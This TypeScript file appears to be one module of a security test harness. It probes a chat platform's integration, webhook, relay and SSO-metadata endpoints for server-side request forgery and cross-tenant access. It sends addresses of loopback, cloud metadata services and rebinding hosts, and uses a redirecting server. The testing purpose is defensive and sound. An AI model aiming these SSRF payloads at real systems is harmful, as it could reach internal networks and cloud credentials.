import { randomUUID } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { authTypes, endpoints } from '@parley/contract';
import { type Caller, createCaller, eachOf } from '../caller.ts';
import { clientOf } from '../client.ts';
import { nastyTexts } from '../nasty.ts';
import { openRows } from '../rows.ts';
import type { Assault, Scene } from '../scene.ts';

const name = 'services';
const { integrations, webhooks, relays, sso } = endpoints;

/** Names that lead into the own network (probe.ts): always, beside a public address, and from the second time on that one asks. */
const hostsOf = (key: string): string[] => ['inside', 'both', 'turn'].map((kind) => `${kind}.${key.slice(0, 8)}.attack.test`);
/** Addresses by which Linux, clouds and translations name the own network; the spellings of loopback are walked by another assault. */
const literals = [
  '127.0.0.1',
  '[::1]',
  '[::ffff:7f00:1]',
  '[64:ff9b::7f00:1]',
  '[2002:7f00:1::]',
  '169.254.169.254',
  '[fd00:ec2::254]',
  '100.100.100.200',
  '0.0.0.0',
];

type Form = { title: string; method: 'POST' | 'PUT'; path: string; body: (host: string, port: number, key: string) => object };

/** Everything that names an address of an outside service, in the form that saves or tries it. */
const forms: readonly Form[] = [
  ...(
    [
      ['workflow', authTypes.workflow, { emailId: 'a@example.com', password: 'secret' }],
      ['video', authTypes.video, { appId: 'a', secret: 'secret' }],
      ['model', authTypes.genAi, { llm: 1, model: 'm', embeddingModel: 'e', apikey: 'key' }],
      ['speech', authTypes.speech, { model: 'm', apikey: 'key' }],
    ] as const
  ).flatMap(([title, authType, more]) =>
    ([integrations.create.path, integrations.test.path] as const).map(
      (path): Form => ({
        title: `integrations.${path.endsWith('test') ? 'test' : 'create'} of a ${title}`,
        method: 'POST',
        path,
        body: (host, port, key) => ({
          name: `Service ${key}`,
          authType,
          baseUrl: `https://${host}:${port}/${key}`,
          ...(authType === authTypes.video ? {} : { sandboxUrl: `http://${host}:${port}/${key}` }),
          ...more,
        }),
      }),
    ),
  ),
  ...([integrations.create.path, integrations.test.path] as const).map(
    (path): Form => ({
      title: `integrations.${path.endsWith('test') ? 'test' : 'create'} of a database`,
      method: 'POST',
      path,
      body: (host, port, key) => ({
        name: `Database ${key}`,
        authType: authTypes.database,
        host: host.replace(/^\[|\]$/g, ''),
        port,
        database: 'd',
        user: 'u',
        password: 'secret',
      }),
    }),
  ),
  {
    title: 'webhooks.create',
    method: 'POST',
    path: webhooks.create.path,
    body: (host, port, key) => ({
      name: `Webhook ${key}`,
      url: `https://${host}:${port}/${key}`,
      events: ['chat.created'],
      channelIds: [],
      deptIds: [],
      headers: [],
      isActive: true,
    }),
  },
  {
    title: 'relays.create',
    method: 'POST',
    path: relays.create.path,
    body: (host, port, key) => ({
      name: `Relay ${key}`,
      url: `https://${host}:${port}/${key}`,
      channelIds: [],
      headers: [],
      isActive: true,
    }),
  },
  {
    title: 'sso.readMetadata',
    method: 'POST',
    path: sso.readMetadata.path,
    body: (host, port, key) => ({ address: `https://${host}:${port}/${key}` }),
  },
];

/** A listener on loopback: any connection to it has reached the inside, whatever it sends. */
async function listen() {
  const connections: string[] = [];
  const open = new Set<Socket>();
  const server = createServer((request, response) => {
    connections.push(`${request.method} ${request.headers.host}${request.url}`);
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"inside":true}');
  });
  server.on('connection', (socket) => {
    open.add(socket);
    connections.push(`a connection from port ${socket.remotePort}`);
    socket.on('error', () => {});
  });
  server.on('clientError', (_error, socket) => socket.destroy());
  await new Promise<void>((resolve) => server.listen(0, resolve));
  return {
    port: (server.address() as AddressInfo).port,
    connections,
    stop: () => {
      for (const socket of open) socket.destroy();
      server.close();
    },
  };
}

/** A host that the installation allows and that redirects its callers into the own network. */
async function startRedirecting(to: number) {
  const server = createServer((_request, response) => response.writeHead(302, { location: `http://127.0.0.1:${to}/redirected` }).end());
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: (server.address() as AddressInfo).port, stop: () => server.close() };
}

async function attackAddresses(
  { attacker, findings, isShort, random }: Scene,
  caller: Caller,
  inside: Awaited<ReturnType<typeof listen>>,
): Promise<void> {
  const tokens = attacker.administrators.map(({ token }) => token);
  const work = forms.flatMap((form) => {
    const key = randomUUID();
    const hosts = [...hostsOf(key), ...(isShort ? random.shuffled(literals).slice(0, 2) : literals)];
    return hosts.map((host) => ({ form, host, key }));
  });
  await eachOf(work, 12, async ({ form: { title, method, path, body }, host, key }, place) => {
    const sent = { method, path, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body(host, inside.port, key)) };
    const before = inside.connections.length;
    const got = await caller.send({ name: 'administrator', token: tokens[place % tokens.length] ?? '' }, sent, title);
    if (got?.body.includes('"inside"')) findings.add(name, `${title} answers what stands inside`, caller.explain(sent, got));
    // The form refuses hosts that are internal at once; for a name that resolves differently later, only the connection counts.
    const isTurning = host.startsWith('turn.');
    if (got && got.status === 200 && !isTurning && !title.includes('test'))
      findings.add(name, `${title} takes ${host.replace(key.slice(0, 8), '…')}`, caller.explain(sent, got));
    for (const told of inside.connections.slice(before)) findings.add(name, `${title} reaches the inside`, `${host}: ${told}`);
  });
}

/** Services that were saved while their names led elsewhere: calls, tests and queries are refused when the address is dialled. */
async function callSaved({ attacker, findings }: Scene, caller: Caller, inside: Awaited<ReturnType<typeof listen>>): Promise<void> {
  const { token } = await attacker.makeAdministrator();
  const who = { name: 'administrator', token };
  const list = await clientOf(caller, who)<{ integrations?: { _id: string }[] }>(
    'GET',
    `${integrations.list.path}?from=0&perPage=50`,
  ).catch(() => ({}) as { integrations?: { _id: string }[] });
  const ids = (list.integrations ?? []).map(({ _id }) => _id);
  await eachOf(ids, 8, async (id) => {
    for (const call of ['projects', 'workflows', 'processes'] as const)
      await caller.send(
        who,
        { method: 'GET', path: `${integrations[call].path.replace(':integrationId', id)}?projectId=1` },
        `integrations.${call}`,
      );
    await caller.send(
      who,
      {
        method: 'POST',
        path: integrations.query.path.replace(':integrationId', id),
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ sql: 'select 1', params: [] }),
      },
      'integrations.query',
    );
  });
  const { webhooks: saved } = await clientOf(caller, who)<{ webhooks: { id: string }[] }>('GET', webhooks.list.path);
  await eachOf(
    saved,
    4,
    async ({ id }) =>
      void (await caller.send(
        who,
        { method: 'POST', path: webhooks.test.path.replace(':webhookId', id), headers: { 'content-type': 'application/json' }, body: '{}' },
        'webhooks.test',
      )),
  );
  for (const told of inside.connections) findings.add(name, 'a saved service reaches the inside', told);
}

/** An allowed host that redirects inside, and services with what is no address, from people who may not save any. */
async function attackForms({ attacker, victim, findings }: Scene, caller: Caller, redirecting: number): Promise<void> {
  const { token } = await attacker.makeAdministrator();
  const agent = attacker.byRole.find(({ code }) => code === 3)?.user.token ?? '';
  const send = (who: string, { method, path }: { method: string; path: string }, body: object, label: string) =>
    caller.send(
      { name: 'somebody', token: who },
      { method, path, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) },
      label,
    );
  for (const { title, body, ...call } of forms) {
    const led = await send(token, call, body('outside.attack.test', redirecting, randomUUID()), title);
    if (led?.body.includes('"inside"')) findings.add(name, `${title} follows a redirection inside`, led.body.slice(0, 300));
    const refused = await send(agent, call, body('example.com', 443, randomUUID()), title);
    if (refused && ![401, 403].includes(refused.status))
      findings.add(name, `${title} by an agent`, `${refused.status} ${refused.body.slice(0, 200)}`);
    for (const text of nastyTexts.slice(0, 12))
      await send(token, call, { ...body(text, 443, 'x'), baseUrl: text, url: text, host: text, address: text }, title);
  }
  const theirs = victim.harvest.byParameter.get('integrationId')?.[0];
  if (!theirs) return void findings.add(name, 'the other enterprise has no service to attack', '');
  for (const call of [integrations.get, integrations.remove]) {
    const got = await caller.send(
      { name: 'attacker', token },
      { method: call.method, path: call.path.replace(':integrationId', theirs) },
      'integrations of others',
    );
    if (got && got.status < 400) findings.add(name, 'a service of another enterprise is answered', got.body.slice(0, 300));
  }
  // A stored secret goes to the address that it was given for: another enterprise's to nobody.
  const tried = await send(
    token,
    integrations.test,
    { name: 'x', authType: authTypes.genAi, llm: 1, baseUrl: `http://outside.attack.test:${redirecting}`, id: theirs },
    'integrations.test',
  );
  if (tried && tried.status < 400 && tried.body.includes('"isWorking":true'))
    findings.add(name, 'a secret of another enterprise is used', tried.body.slice(0, 300));
}

/** Outside services whose names lead into the own network, at once or later: none is dialled there. */
async function run(scene: Scene): Promise<void> {
  const { target, victim, findings, tally, random, isShort } = scene;
  const caller = createCaller(target.url, name, findings, tally, random);
  const rows = await openRows(target.ownerUrl);
  const inside = await listen();
  const redirecting = await startRedirecting(inside.port);
  try {
    const before = await rows.digestOf(victim.enterpriseId, 'integrations');
    await attackAddresses(scene, caller, inside);
    await callSaved(scene, caller, inside);
    await attackForms(scene, caller, redirecting.port);
    await sleep(isShort ? 500 : 5000); // deliveries of webhooks
    for (const told of inside.connections) findings.add(name, 'the inside was reached', told);
    if ((await rows.digestOf(victim.enterpriseId, 'integrations')) !== before)
      findings.add(name, 'services of another enterprise changed', before);
  } finally {
    redirecting.stop();
    inside.stop();
    await rows.close();
    await caller.close();
  }
}

export const services: Assault = { name, what: 'services whose names lead inside, at once or at the second look', run };
